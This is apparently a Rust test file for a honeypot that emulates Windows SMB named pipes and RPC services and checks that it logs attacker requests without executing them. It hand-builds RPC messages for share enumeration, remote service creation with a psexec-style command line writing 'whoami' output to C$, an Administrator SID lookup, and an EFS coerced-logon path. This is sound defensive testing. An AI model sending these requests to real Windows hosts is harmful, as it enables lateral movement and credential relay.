//! Associations as clients lead them.

use std::sync::Arc;

use super::ndr::{Reader, Writer};
use super::pdu::{self, flag, kind};
use super::{Caller, Interface, Pipe, Rights, Setting, ShareInfo, ShareKind};
use crate::event::Observation;
use crate::session::bench::{Bench, NOW};

/// The HIS database with a caller of these rights.
pub(super) fn setting(bench: &Bench, rights: Rights) -> Arc<Setting> {
    let mut setting = Setting::of(&bench.pack, bench.pack.host("hisdb").unwrap());
    let share = |name: &str, kind, comment: &str, path: &str| ShareInfo {
        name: name.to_owned(),
        kind,
        comment: comment.to_owned(),
        path: path.to_owned(),
    };
    setting.shares = vec![
        share("ADMIN$", ShareKind::Administrative, "远程管理", "C:\\Windows"),
        share("C$", ShareKind::Administrative, "默认共享", "C:\\"),
        share("IPC$", ShareKind::Ipc, "远程 IPC", ""),
        share("备份", ShareKind::Disk, "", "D:\\备份"),
    ];
    setting.caller = Caller {
        account: "administrator".to_owned(),
        domain: String::new(),
        rights,
        client: "127.0.0.9".to_owned(),
        since: NOW.parse().unwrap(),
    };
    Arc::new(setting)
}

pub(super) fn bind(interface: Interface) -> Vec<u8> {
    let mut writer = Writer::new();
    writer.u16(4280);
    writer.u16(4280);
    writer.u32(0);
    writer.u32(1);
    writer.u16(0);
    writer.u16(1);
    let syntax = interface.syntax();
    writer.uuid(syntax.uuid);
    writer.u16(syntax.major);
    writer.u16(syntax.minor);
    writer.uuid(pdu::NDR.uuid);
    writer.u32(2);
    pdu::assemble(kind::BIND, flag::FIRST | flag::LAST, 1, &writer.finish(), None)
}

pub(super) fn request(opnum: u16, stub: &[u8], flags: u8) -> Vec<u8> {
    let mut body = u32::try_from(stub.len()).unwrap().to_le_bytes().to_vec();
    body.extend([0, 0]);
    body.extend(opnum.to_le_bytes());
    body.extend(stub);
    pdu::assemble(kind::REQUEST, flags, 2, &body, None)
}

/// Writes pieces of `size` bytes and reads all messages, `most` bytes at a time.
pub(super) fn talk(bench: &Bench, pipe: &mut Pipe, bytes: &[u8], size: usize, most: usize) -> Vec<u8> {
    let mut session = bench.session("hisdb", "tds");
    let mut answers = Vec::new();
    for piece in bytes.chunks(size) {
        pipe.write(&mut session, piece);
        while pipe.is_waiting() {
            answers.extend(pipe.read(most).bytes);
        }
    }
    answers
}

/// The stubs of the responses in `bytes`, joined; the status of a fault as an error.
pub(super) fn stub(mut bytes: &[u8]) -> Result<Vec<u8>, u32> {
    let mut stub = Vec::new();
    while let Some(header) = pdu::Header::parse(bytes) {
        let (body, rest) = bytes[16..].split_at(header.length - 16);
        match header.kind {
            kind::RESPONSE => stub.extend(&body[8..]),
            kind::FAULT => return Err(u32::from_le_bytes(body[8..12].try_into().unwrap())),
            _ => {}
        }
        bytes = rest;
    }
    Ok(stub)
}

/// One call over a pipe of its own.
pub(super) fn call(
    bench: &Bench,
    rights: Rights,
    pipe: &str,
    interface: Interface,
    opnum: u16,
    asked: &[u8],
) -> Result<Vec<u8>, u32> {
    let mut pipe = Pipe::open(pipe, setting(bench, rights)).unwrap();
    let bytes = [bind(interface), request(opnum, asked, 3)].concat();
    stub(&talk(bench, &mut pipe, &bytes, usize::MAX, usize::MAX))
}

fn share_enum(level: u32) -> Vec<u8> {
    let mut writer = Writer::new();
    writer.pointer();
    writer.wide("\\\\127.0.10.18");
    writer.u32(level);
    writer.u32(level);
    writer.pointer();
    writer.u32(0);
    writer.null();
    writer.u32(u32::MAX);
    writer.null();
    writer.finish()
}

#[test]
fn shares_are_listed_however_the_bytes_come() {
    let bench = Bench::new();
    let bytes = [bind(Interface::Srvsvc), request(15, &share_enum(1), 3)].concat();
    let mut seen = Vec::new();
    for size in 1..bytes.len() {
        let mut pipe = Pipe::open("SrvSvc", setting(&bench, Rights::User)).unwrap();
        seen.push(talk(&bench, &mut pipe, &bytes, size, size));
    }
    seen.dedup();
    assert_eq!(seen.len(), 1);
    let stub = stub(&seen[0]).unwrap();
    let mut reader = Reader::new(&stub, false);
    let [level, _, _, count] = [(); 4].map(|()| reader.u32().unwrap());
    assert_eq!((level, count), (1, 4));
    let (_, _) = (reader.u32().unwrap(), reader.u32().unwrap());
    for _ in 0..4 * 3 {
        reader.u32().unwrap();
    }
    let names: Vec<_> = (0..4).map(|_| (reader.wide().unwrap(), reader.wide().unwrap()).0).collect();
    assert_eq!(names, ["ADMIN$", "C$", "IPC$", "备份"]);
    assert_eq!(stub[stub.len() - 4..], [0; 4]);
}

#[test]
fn what_only_administrators_see_is_refused_to_others() {
    let bench = Bench::new();
    for (rights, status) in [(Rights::User, 5), (Rights::Administrator, 0)] {
        let answer = call(&bench, rights, "srvsvc", Interface::Srvsvc, 15, &share_enum(502)).unwrap();
        assert_eq!(answer[answer.len() - 4..], u32::to_le_bytes(status));
    }
    let told = bench.told();
    let calls = told.iter().filter(|told| matches!(told, Observation::Request { detail: Some(_), .. }));
    assert_eq!(calls.count(), 2);
}

#[test]
fn faults_are_those_of_the_runtime() {
    let bench = Bench::new();
    let fault = |opnum, stub: &[u8]| call(&bench, Rights::User, "srvsvc", Interface::Srvsvc, opnum, stub);
    assert_eq!(fault(58, &[]), Err(0x1c01_0002));
    assert_eq!(fault(15, &[1, 2]), Err(0x6f7));
    let mut pipe = Pipe::open("srvsvc", setting(&bench, Rights::User)).unwrap();
    let answer = talk(&bench, &mut pipe, &request(15, &share_enum(1), 3), 500, 500);
    assert_eq!(stub(&answer), Err(0x1c01_000b));
    assert!(pipe.read(1).closed);
}

#[test]
fn a_host_without_the_pipe_has_none() {
    let bench = Bench::new();
    assert!(Pipe::open("nothing", setting(&bench, Rights::User)).is_none());
    assert!(!Pipe::is_allowed(&setting(&bench, Rights::Anonymous)));
}

fn pipe_calls(
    bench: &Bench,
    pipe: &mut Pipe,
    interface: Interface,
    calls: &[(u16, Vec<u8>)],
) -> Vec<Vec<u8>> {
    talk(bench, pipe, &bind(interface), usize::MAX, usize::MAX);
    let mut answers = Vec::new();
    for (opnum, asked) in calls {
        let mut asked = asked.clone();
        // A stub that begins with the mark takes the handle of the call before it.
        if asked.starts_with(MARK) {
            let last: &Vec<u8> = answers.last().unwrap();
            let at = last.len() - 24;
            asked.splice(..MARK.len(), last[at..at + 20].iter().copied());
        }
        answers.push(stub(&talk(bench, pipe, &request(*opnum, &asked, 3), 50, 50)).unwrap());
    }
    answers
}

const MARK: &[u8] = b"twenty bytes' handle";

fn status(answer: &[u8]) -> u32 {
    u32::from_le_bytes(answer[answer.len() - 4..].try_into().unwrap())
}

fn open_manager() -> Vec<u8> {
    let mut writer = Writer::new();
    writer.null();
    writer.null();
    writer.u32(0xf003f);
    writer.finish()
}

fn create_service(line: &str) -> Vec<u8> {
    let mut writer = Writer::new();
    writer.raw(MARK);
    writer.wide("BTOBTO");
    writer.pointer();
    writer.wide("BTOBTO");
    for value in [0xf01ff, 0x10, 3, 0] {
        writer.u32(value);
    }
    writer.wide(line);
    (0..3).for_each(|_| writer.null());
    writer.u32(0);
    writer.null();
    writer.null();
    writer.u32(0);
    writer.finish()
}

#[test]
fn a_service_is_made_told_and_does_not_start() {
    let bench = Bench::new();
    let line = "%COMSPEC% /Q /c echo whoami ^> \\\\127.0.0.1\\C$\\__output";
    let mut pipe = Pipe::open("svcctl", setting(&bench, Rights::Administrator)).unwrap();
    let start = [MARK, &[0; 8]].concat();
    let calls = [(15, open_manager()), (12, create_service(line)), (19, start)];
    let answers = pipe_calls(&bench, &mut pipe, Interface::Svcctl, &calls);
    let ends: Vec<u32> = answers.iter().map(|answer| status(answer)).collect();
    assert_eq!(ends, [0, 0, 1053]);
    let told = bench.told();
    let attempts: Vec<_> = told
        .iter()
        .filter_map(|told| match told {
            Observation::ExploitAttempt { weakness, payload } => {
                Some((weakness.as_str(), payload.as_untrusted()))
            }
            _ => None,
        })
        .collect();
    assert_eq!(attempts, [("remote service execution", line); 2]);
    // Another association of his sees it; made again it exists.
    let mut second = Pipe::open("svcctl", setting(&bench, Rights::Administrator)).unwrap();
    let calls = [(15, open_manager()), (12, create_service(line))];
    let answers = pipe_calls(&bench, &mut second, Interface::Svcctl, &calls);
    assert_eq!(status(&answers[1]), 1073);
}

#[test]
fn users_manage_no_services() {
    let bench = Bench::new();
    let answer = call(&bench, Rights::User, "svcctl", Interface::Svcctl, 15, &open_manager()).unwrap();
    assert_eq!(status(&answer), 5);
}

#[test]
fn names_and_sids_lead_to_each_other() {
    let bench = Bench::new();
    let setting = setting(&bench, Rights::User);
    let mut pipe = Pipe::open("lsarpc", Arc::clone(&setting)).unwrap();
    let mut open = Writer::new();
    open.null();
    for value in [24, 0, 0, 0, 0, 0, 0x0200_0000] {
        open.u32(value);
    }
    let mut names = Writer::new();
    names.raw(MARK);
    names.u32(1);
    names.u32(1);
    names.unicode_header("Administrator");
    names.unicode_body("Administrator");
    names.u32(0);
    names.null();
    names.u32(1);
    names.u32(0);
    let calls = [(44, open.finish()), (14, names.finish())];
    let answers = pipe_calls(&bench, &mut pipe, Interface::Lsarpc, &calls);
    assert_eq!(status(&answers[1]), 0);
    let sid = setting.machine.to_bytes();
    assert!(answers[1].windows(sid.len()).any(|window| window == sid), "the host's SID is told");
    assert!(answers[1].windows(4).any(|window| window == 500u32.to_le_bytes()));
}

#[test]
fn coerced_logons_are_told_and_reach_nobody() {
    let bench = Bench::new();
    let mut asked = Writer::new();
    asked.wide("\\\\192.0.2.7\\share\\x");
    asked.u32(0);
    let answer = call(&bench, Rights::User, "lsarpc", Interface::EfsLsa, 0, &asked.finish()).unwrap();
    assert_eq!(status(&answer), 53);
    let attempt = |told: &Observation| matches!(told, Observation::ExploitAttempt { payload, .. } if payload.as_untrusted().contains("192.0.2.7"));
    assert!(bench.told().iter().any(attempt));
}
